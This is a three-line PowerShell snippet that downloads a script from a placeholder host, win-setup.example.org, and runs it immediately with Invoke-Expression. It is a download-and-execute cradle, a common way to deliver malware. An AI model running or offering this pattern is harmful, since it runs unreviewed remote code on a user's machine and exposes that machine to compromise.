$u = 'https://win-setup.example.org/s.ps1'
$code = (iwr -UseBasicParsing $u).Content
iex $code
